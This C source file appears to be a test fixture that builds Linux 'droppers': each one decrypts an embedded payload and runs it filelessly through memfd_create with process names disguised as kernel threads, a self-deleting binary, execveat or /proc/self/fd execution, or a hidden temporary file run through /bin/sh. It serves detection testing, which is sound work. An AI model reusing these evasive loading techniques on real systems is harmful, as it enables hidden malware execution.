/*
 * dropper.c - the exec-based droppers the tests build (DropperProgram.cs): the payload (a whole
 * program, encrypted with a xorshift key stream in payload.h) is decrypted and written to a file
 * that is then executed, as real Linux droppers and Go packers do:
 *   VARIANT_EXECVEAT  memfd_create with a deceptive name, the dropper unlinks itself,
 *                     execveat(memfd, "", AT_EMPTY_PATH) (fexecve);
 *   VARIANT_PROCFD    memfd, then fork + setsid + chdir("/") + execve("/proc/self/fd/N") in the child;
 *   VARIANT_SHELL     a temporary file in the working directory, fchmod 0700, then fork + setsid +
 *                     chdir("/") + /bin/sh -c '"$0" arg1' FILE in the child (the shell execs it);
 *   VARIANT_SHFILE    the same, but /bin/sh FILE arg1 (the file is the interpreter's argument: a script).
 * The fork variants wait for the child and exit with its status. The payload runs with argv
 * { "original", "arg1" }.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include "payload.h"

static void decrypt(unsigned char *out)
{
    unsigned long long x = SEED;
    for (unsigned long i = 0; i < PAYLOAD_LEN; i++) {
        x ^= x << 13; x ^= x >> 7; x ^= x << 17;
        out[i] = PAYLOAD[i] ^ (unsigned char)x;
    }
}

static void write_all(int fd, const unsigned char *p, unsigned long n)
{
    while (n > 0) {
        long chunk = n > 4096 ? 4096 : (long)n; /* several writes, as a streaming decryptor does */
        long w = write(fd, p, chunk);
        if (w <= 0) exit(90);
        p += w;
        n -= w;
    }
}

static int wait_child(pid_t child)
{
    int status;
    if (waitpid(child, &status, 0) != child) return 91;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv, char **envp)
{
    (void)argc;
    unsigned char *plain = malloc(PAYLOAD_LEN);
    decrypt(plain);
    char *args[] = { "original", "arg1", NULL };
#if defined(VARIANT_EXECVEAT)
    unlink(argv[0]);
    int fd = memfd_create("[kworker/1:1]", MFD_CLOEXEC);
    write_all(fd, plain, PAYLOAD_LEN);
    syscall(SYS_execveat, fd, "", args, envp, AT_EMPTY_PATH);
    return 92;
#elif defined(VARIANT_PROCFD)
    (void)argv;
    int fd = memfd_create("[kworker/0:2]", 0);
    write_all(fd, plain, PAYLOAD_LEN);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (chdir("/") != 0) _exit(93);
        char path[64];
        strcpy(path, "/proc/self/fd/");
        path[14] = (char)('0' + fd / 10); path[15] = (char)('0' + fd % 10); path[16] = 0;
        if (fd < 10) { path[14] = (char)('0' + fd); path[15] = 0; }
        execve(path, args, envp);
        _exit(94);
    }
    return wait_child(child);
#else /* VARIANT_SHELL, VARIANT_SHFILE */
    (void)argv;
    char path[4096];
    if (!getcwd(path, sizeof path - 32)) return 95;
    strcat(path, "/.cache-drop");
    int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0600);
    write_all(fd, plain, PAYLOAD_LEN);
    fchmod(fd, 0700);
    close(fd);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (chdir("/") != 0) _exit(93);
#if defined(VARIANT_SHFILE)
        execl("/bin/sh", "sh", path, "arg1", (char *)NULL);
#else
        execl("/bin/sh", "sh", "-c", "exec \"$0\" arg1", path, (char *)NULL);
#endif
        _exit(94);
    }
    int code = wait_child(child);
    unlink(path);
    return code;
#endif
}
